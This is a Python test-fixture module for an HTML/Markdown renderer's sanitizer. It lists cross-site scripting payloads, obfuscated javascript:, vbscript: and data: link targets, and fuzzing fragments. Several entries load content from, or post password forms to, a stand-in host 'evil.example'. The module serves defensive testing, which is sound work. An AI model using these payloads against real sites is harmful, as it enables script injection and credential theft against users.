"""What somebody types who wants something of theirs to run, load or look like us.

The tests of the renderer read the HTML that comes of it; those in a browser look
whether anything happens.
"""

# HTML, which no text may bring in, and which the cleaner takes apart by itself too.
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>a</a>",
    '<a href="javascript:alert(1)">a</a>',
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a hx-get=/ hx-trigger=load hx-on::load=alert(1)>a</a>",
    "<p onclick=alert(1) style='position:fixed'>a</p>",
    "<p onmouseover=alert(1) data-hx-get=//evil.example data-hx-trigger=load>a</p>",
    "<span class='bar message'>a</span>",
    "<div id=content class=page>a</div>",
    "<details open ontoggle=alert(1)>a</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>*{}</style>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input type=password><button>a</form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><img src=x onerror=alert(1)>",
    "\"'><img src=x onerror=alert(1)>",
    "{{ '<b>'|safe }}{% debug %}${alert(1)}",
]

# Where a link would lead that runs, or shows a page of somebody else's making.
TARGETS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#58;alert(1)",
    "&#0000106avascript:alert(1)",
    "java\tscript:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&Tab;script:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "vbscript:x",
    "VBSCRIPT&colon;x",
    "data:text/html,x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA&#58;text/html,x",
    "view-source:javascript:x",
    "feed:javascript:x",
    "blob:x",
]

# Of these, hypothesis makes texts that nobody has thought of.
PIECES = [
    *"<>/\"'=&;:[]()!`*_~#->|\\^@.\n\t aA1",
    *["<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg/onload=", "<!--"],
    *["-->", "<![CDATA[", "]]>", "<?php ", "<a href=", "style=", 'class="', 'id="x"'],
    *["javascript:", "JaVaScRiPt:", "data:text/html,", "vbscript:", "java\tscript:"],
    *["&#106;", "&#x6a;", "&colon;", "&Tab;", "&lt;", "&amp;", "&quot;", "https://"],
    *["www.a.com", "a@b.com", "@alice", "[^1]", "\n[^1]: ", "\n\n", "\n    ", "\n- "],
    *["[ ] ", "[x] ", "\n> ", "\n1. ", "\n# ", "\n|a|\n|-|\n", "|", "```", "~~~"],
    *["python\n", "html\n", "diff\n", "\n[a]: ", "](", "](<", "\u202e", "\u200b"],
    *["\x00", "\x0b", "\ud800", "\ufeff", "\u2028", "é", "字", "\U0001f600"],
]


def spellings(target, name="a"):
    """Return each way to write a link to ``target`` in Markdown."""
    return [
        f"[{name}]({target})",
        f"[{name}](<{target}>)",
        f"![{name}]({target})",
        f"<{target}>",
        f"[{name}]: {target}\n\n[{name}]",
        f"[{name}b]: <{target}>\n\n[{name}b]",
        f'[{name}](/ "{target}")',
        target,
    ]
